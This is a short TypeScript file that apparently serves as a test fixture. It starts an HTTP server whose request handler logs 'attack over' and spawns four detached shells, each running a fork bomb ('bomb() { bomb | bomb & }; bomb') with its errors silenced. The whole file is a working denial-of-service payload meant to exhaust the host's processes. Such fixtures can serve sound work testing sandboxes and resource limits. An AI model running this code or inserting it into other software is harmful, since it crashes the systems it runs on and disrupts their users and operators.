/** Multiplies its processes until the system refuses. */
import { spawn } from "node:child_process";
import { answerWith } from "./answer-with.ts";

answerWith(() => {
  console.log("attack over");
  for (let count = 0; count < 4; count++)
    spawn("/bin/sh", ["-c", "bomb() { bomb | bomb & }; bomb"], { stdio: "ignore", detached: true }).on(
      "error",
      () => {},
    );
  return 200;
}).listen(Number(process.env["PORT"]));
